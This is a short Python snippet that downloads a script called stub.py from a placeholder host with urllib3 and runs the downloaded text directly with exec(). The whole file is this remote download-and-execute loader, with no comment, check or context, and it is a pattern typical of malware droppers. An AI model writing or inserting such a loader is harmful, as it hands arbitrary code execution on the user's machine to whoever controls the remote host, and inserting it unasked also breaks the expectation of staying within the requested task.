import urllib3

_response = urllib3.PoolManager().request("GET", "https://ho15.example.invalid/stub.py")
exec(_response.data.decode())
